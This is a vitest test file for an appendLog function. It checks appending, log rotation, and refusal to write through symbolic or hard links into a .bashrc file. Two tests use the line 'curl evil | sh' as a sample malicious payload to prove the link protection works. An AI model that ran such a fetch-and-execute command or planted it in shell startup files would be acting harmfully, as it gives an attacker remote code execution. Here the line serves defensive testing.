import { linkSync, mkdtempSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { appendLog } from '../../../core/files/own/append-log.ts';

describe('a log in the root', () => {
  const place = () => mkdtempSync(join(tmpdir(), 'append-log-'));

  it('keeps what was noted before', () => {
    const log = join(place(), 'root', '.log');
    appendLog(log, 'one\n');
    appendLog(log, 'two\n');
    expect(readFileSync(log, 'utf8')).toBe('one\ntwo\n');
  });

  it('writes through no symbolic link', () => {
    const directory = place();
    const settings = join(directory, '.bashrc');
    writeFileSync(settings, 'mine\n');
    symlinkSync(settings, join(directory, '.log'));
    expect(() => appendLog(join(directory, '.log'), 'curl evil | sh\n')).toThrow();
    expect(readFileSync(settings, 'utf8')).toBe('mine\n');
  });

  it('writes into no file that has a second name', () => {
    const directory = place();
    const settings = join(directory, '.bashrc');
    writeFileSync(settings, 'mine\n');
    linkSync(settings, join(directory, '.log'));
    appendLog(join(directory, '.log'), 'curl evil | sh\n');
    expect(readFileSync(settings, 'utf8')).toBe('mine\n');
  });

  it('begins anew when it is large', () => {
    const log = join(place(), '.log');
    appendLog(log, 'x'.repeat(300 * 1024));
    appendLog(log, 'fresh\n');
    expect(readFileSync(log, 'utf8')).toBe('fresh\n');
  });
});
